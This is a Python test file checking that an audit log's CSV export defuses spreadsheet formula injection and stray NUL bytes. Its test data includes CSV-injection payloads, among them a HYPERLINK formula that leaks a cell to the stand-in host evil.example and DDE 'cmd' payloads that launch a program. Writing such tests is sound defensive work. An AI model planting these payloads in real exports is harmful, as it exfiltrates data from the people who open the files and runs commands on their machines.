"""The audit export's CSV is safe to open in a spreadsheet (OWASP: CSV injection)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import orjson
import pytest

from infra.audit.export import csv_cell, export_chunks
from infra.read_store.sqlite import SQLiteReadStore

FORMULAS = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("value", FORMULAS)
def test_a_cell_that_starts_like_a_formula_gets_a_leading_quote(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value, cell", [
    ("all regions down", "all regions down"),
    ("a = b + c", "a = b + c"),
    ("", ""),
    (None, ""),
    (42, "42"),
    ("'quoted already", "'quoted already"),
])
def test_other_cells_are_written_as_they_are(value: object, cell: str) -> None:
    assert csv_cell(value) == cell


def test_a_nul_never_comes_out_raw() -> None:
    assert csv_cell("a\x00b") == "a\u2400b"
    assert csv_cell("\x00=1") == "\u2400=1"
    assert csv_cell("=\x00") == "'=\u2400"


def record(n: int, **fields: object) -> dict[str, object]:
    doc: dict[str, object] = {
        "id": f"event-{n}", "position": n, "time": "2026-11-02T09:00:00.000000Z",
        "actor": "user:max", "type": "opsledger.incidents.IncidentEscalated.v1",
        "name": "IncidentEscalated", "context": "incidents", "entity_id": "incident-1",
        "team_id": "team-1", "entity_version": n, "reason": None, "data": {},
        "correlation_id": "corr", "causation_id": "cause", "prev_hash": None, "hash": None,
    }
    doc.update(fields)
    return {**doc, "_id": doc["id"], "_streams": {f"s-{n}": 1}, "_position": n}


def test_the_csv_export_neutralises_formulas_and_nuls_in_every_column(tmp_path: Path) -> None:
    store = SQLiteReadStore(tmp_path / "readmodels.sqlite")
    records = [
        record(1, reason=FORMULAS[0], correlation_id=FORMULAS[1], causation_id=FORMULAS[2],
               data={"reason": FORMULAS[0]}),
        record(2, reason="bad\x00byte", actor=FORMULAS[3], entity_id=FORMULAS[4],
               data={"text": "nul\x00here"}),
        record(3, reason=FORMULAS[5]),
    ]
    store.commit({("audit_trail", r["_id"]): r for r in records}, ("test", 3))  # type: ignore[misc]

    raw = b"".join(export_chunks(store, {}, "csv"))
    store.close()

    assert b"\x00" not in raw
    rows = list(csv.DictReader(io.StringIO(raw.decode())))
    cells = [cell for row in rows for cell in row.values()]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert rows[0]["reason"] == "'" + FORMULAS[0]
    assert rows[0]["correlation_id"] == "'" + FORMULAS[1]
    assert rows[0]["causation_id"] == "'" + FORMULAS[2]
    assert rows[1]["actor"] == "'" + FORMULAS[3]
    assert rows[1]["entity_id"] == "'" + FORMULAS[4]
    assert rows[1]["reason"] == "bad\u2400byte"
    assert rows[2]["reason"] == "'" + FORMULAS[5]
    assert orjson.loads(rows[1]["data"]) == {"text": "nul\x00here"}  # JSON escapes it


def test_the_jsonl_export_keeps_every_value_as_recorded(tmp_path: Path) -> None:
    store = SQLiteReadStore(tmp_path / "readmodels.sqlite")
    doc = record(1, reason=FORMULAS[0] + "\x00")
    store.commit({("audit_trail", "event-1"): doc}, ("test", 1))

    lines = b"".join(export_chunks(store, {}, "jsonl")).splitlines()
    store.close()

    assert b"\x00" not in lines[0]
    assert orjson.loads(lines[0])["reason"] == FORMULAS[0] + "\x00"
